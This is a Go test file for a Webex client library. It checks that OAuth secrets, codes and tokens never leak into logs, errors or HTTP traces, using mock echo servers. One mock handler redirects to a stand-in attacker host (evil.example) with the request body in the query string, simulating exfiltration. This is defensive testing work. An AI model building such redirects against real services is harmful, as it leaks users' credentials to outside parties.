package webex_test

import (
	"bytes"
	"context"
	"errors"
	"fmt"
	"io"
	"log/slog"
	"net/http"
	"net/url"
	"strings"
	"testing"
	"testing/synctest"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"golang.org/x/oauth2"

	"github.com/go-webex/webex"
)

// oauthSecrets are what nobody must see, in every form in which it travels.
var oauthSecrets = []string{
	"S3CRET-client", "S3CRET-code", "S3CRET-verifier", "S3CRET-refresh", "S3CRET-device", "S3CRET-user", "S3CRET-link",
	"S3CRET-access-new", "S3CRET-refresh-new", "S3CRET-id-new", "S3CRET", "UzNDUkVU", // and the beginning of it in base64
}

// show writes values in every way in which a program may come to show them.
func show(w io.Writer, values ...any) {
	for _, value := range values {
		fmt.Fprintf(w, "%v %+v %#v %s %q\n", value, value, value, value, value)
		fmt.Fprintf(w, "%v %+v %#v\n", []any{value}, struct{ Value any }{value}, map[string]any{"value": value})
		slog.New(slog.NewJSONHandler(w, nil)).Info("value", "value", value)
		slog.New(slog.NewTextHandler(w, nil)).Info("value", "value", value)
		if err, ok := value.(error); ok {
			for err := err; err != nil; err = errors.Unwrap(err) {
				fmt.Fprintf(w, "%v %+v %#v\n", err, err, err)
				if _, ok := err.(*webex.TokenStoreError); ok {
					break // what is further in is the store's own
				}
			}
		}
	}
}

// echoes are servers that tell what they were told.
var echoes = map[string]http.HandlerFunc{
	"as Webex": func(w http.ResponseWriter, r *http.Request) {
		text := fmt.Sprintf("%s %s", read(r), r.Header.Get("Authorization"))
		w.Header().Set("X-Echo", text)
		w.WriteHeader(http.StatusBadRequest)
		fmt.Fprintf(w, `{"message":%q,"errors":[{"description":%q}]}`, text, text)
	},
	"as OAuth": func(w http.ResponseWriter, r *http.Request) {
		text := read(r)
		if r.Header.Get("Content-Type") == "application/x-www-form-urlencoded" {
			form, _ := url.ParseQuery(text)
			text = fmt.Sprint(form)
		}
		w.WriteHeader(http.StatusUnauthorized)
		fmt.Fprintf(w, `{"error":"invalid_grant","error_description":%q}`, text)
	},
	"as a proxy": func(w http.ResponseWriter, r *http.Request) {
		w.WriteHeader(http.StatusForbidden)
		fmt.Fprintf(w, `<html><title>%s</title>`, read(r))
	},
	"a redirect": func(w http.ResponseWriter, r *http.Request) {
		w.Header().Set("Location", "http://evil.example/?"+read(r))
		w.WriteHeader(http.StatusTemporaryRedirect)
	},
	"a fault":                answer(503, ""),
	"a cut":                  cut,
	"broken JSON":            answer(200, `{"access_token":"S3CRET-access-new","refresh_token":"S3CRET-refresh-new`),
	"JSON of another form":   answer(200, `{"access_token":{"S3CRET-access-new":1},"refresh_token":"S3CRET-refresh-new"}`),
	"a token that is none":   answer(200, `{"access_token":"S3CRET-access-new S3CRET","refresh_token":"S3CRET-refresh-new"}`),
	"a limit without an end": answer(429, "", "Retry-After", "86400"),
	"success": func(w http.ResponseWriter, r *http.Request) {
		if r.URL.Path == "/v1/device/authorize" {
			answer(200, `{"device_code":"S3CRET-device","user_code":"S3CRET-user","verification_uri_complete":"http://x/S3CRET-link"}`)(w, r)
			return
		}
		answer(200, `{"access_token":"S3CRET-access-new","expires_in":9,"refresh_token":"S3CRET-refresh-new","id_token":"S3CRET-id-new","otp_token":"S3CRET"}`)(w, r)
	},
}

func read(r *http.Request) string {
	body, _ := io.ReadAll(r.Body)
	return string(body)
}

// TestSecretsAreNeverShown looks for tokens, codes, verifiers and secrets
// wherever they could come to light.
func TestSecretsAreNeverShown(t *testing.T) {
	var shown bytes.Buffer
	get := webex.GetAccessTokenRequest{
		ClientID: "id", ClientSecret: "S3CRET-client &", Code: "S3CRET-code &", RedirectURI: "http://localhost/", CodeVerifier: "S3CRET-verifier",
	}
	refresh := webex.RefreshAccessTokenRequest{ClientID: "id", ClientSecret: "S3CRET-client &", RefreshToken: "S3CRET-refresh"}
	device := &webex.DeviceAuthorization{
		DeviceCode: "S3CRET-device", UserCode: "S3CRET-user", VerificationURI: "http://x/", VerificationURIComplete: "http://x/S3CRET-link",
	}
	await := webex.AwaitDeviceRequest{ClientID: "id", ClientSecret: "S3CRET-client &", Device: device}
	serviceApp := webex.CreateServiceAppTokenRequest{ClientID: "id", ClientSecret: "S3CRET-client &", TargetOrgID: "o"}
	show(&shown, get, &get, refresh, &refresh, *device, device, await, &await, serviceApp, &serviceApp)

	fail := webex.WithTokenStore(saver(func(_ context.Context, token *oauth2.Token) error {
		return errors.New("cannot write " + token.AccessToken + token.RefreshToken)
	}))
	crash := webex.WithTokenStore(saver(func(_ context.Context, token *oauth2.Token) error {
		panic(fmt.Errorf("cannot write %v", token))
	}))
	calls := map[string]func(ctx context.Context, c *webex.Client, opts []webex.Option) (any, error){
		"Get": func(ctx context.Context, c *webex.Client, _ []webex.Option) (any, error) {
			return c.AccessTokens.Get(ctx, &get)
		},
		"Refresh": func(ctx context.Context, c *webex.Client, _ []webex.Option) (any, error) {
			return c.AccessTokens.Refresh(ctx, &refresh)
		},
		"AuthorizeDevice": func(ctx context.Context, c *webex.Client, _ []webex.Option) (any, error) {
			return c.AccessTokens.AuthorizeDevice(ctx, &webex.AuthorizeDeviceRequest{ClientID: "id", Scopes: []string{"a"}})
		},
		"AwaitDevice": func(ctx context.Context, c *webex.Client, _ []webex.Option) (any, error) {
			return c.AccessTokens.AwaitDevice(ctx, &await)
		},
		"CreateToken": func(ctx context.Context, c *webex.Client, _ []webex.Option) (any, error) {
			return c.ServiceApps.CreateToken(ctx, "app", &serviceApp)
		},
		"TokenSource": func(_ context.Context, c *webex.Client, _ []webex.Option) (any, error) {
			source := c.ServiceApps.TokenSource("app", &serviceApp)
			_, err := source.Token()
			return source, err
		},
		"NewClientFromCode": func(ctx context.Context, _ *webex.Client, opts []webex.Option) (any, error) {
			client, err := webex.NewClientFromCode(ctx, &get, opts...)
			if err != nil {
				return nil, err
			}
			_, err = client.People.Me(ctx)
			return []any{client, *client}, err
		},
		"NewClientFromCode and a store that fails": func(ctx context.Context, _ *webex.Client, opts []webex.Option) (any, error) {
			return webex.NewClientFromCode(ctx, &get, append(opts, fail)...)
		},
		"NewClientFromCode and a store that panics": func(ctx context.Context, _ *webex.Client, opts []webex.Option) (any, error) {
			return webex.NewClientFromCode(ctx, &get, append(opts, crash)...)
		},
		"WithIntegration": func(ctx context.Context, _ *webex.Client, opts []webex.Option) (any, error) {
			client, err := webex.NewClient(append(opts, webex.WithIntegration("id", "S3CRET-client &", &oauth2.Token{RefreshToken: "S3CRET-refresh"}))...)
			require.NoError(t, err)
			_, err = client.People.Me(ctx)
			return []any{client, *client}, err
		},
	}
	middleware := webex.WithMiddleware(func(next http.RoundTripper) http.RoundTripper {
		return roundTripper(func(req *http.Request) (*http.Response, error) {
			resp, err := next.RoundTrip(req)
			show(&shown, req, req.Header, req.Context(), err)
			if resp != nil {
				show(&shown, resp.Request, resp.Request.Header)
			}
			return resp, err
		})
	})
	failed := 0
	for serverName, server := range echoes {
		for callName, call := range calls {
			synctest.Test(t, func(t *testing.T) {
				opts := []webex.Option{inMemory(server), logTo(&shown), middleware}
				client, err := webex.NewClient(append(opts, webex.WithoutToken())...)
				require.NoError(t, err)
				ctx := timeoutAfter(t, time.Hour)
				result, err := call(ctx, client, opts)
				if err == nil {
					show(&shown, result)
				} else {
					failed++
					show(&shown, err)
				}
				if apiErr, ok := errors.AsType[*webex.ApiError](err); ok {
					show(&shown, *apiErr, string(apiErr.Body), apiErr.Header)
				}
				for _, secret := range oauthSecrets {
					if i := strings.Index(shown.String(), secret); i >= 0 {
						t.Fatalf("%s against %s shows %s: %.800s", callName, serverName, secret, shown.String()[max(0, i-500):])
					}
				}
				if callName != "AuthorizeDevice" && serverName == "as Webex" {
					assert.Contains(t, err.Error(), "[redacted]", "%s: an echo is redacted", callName)
				}
				shown.Reset()
			})
		}
	}
	assert.Greater(t, failed, 80, "most of this fails")
}
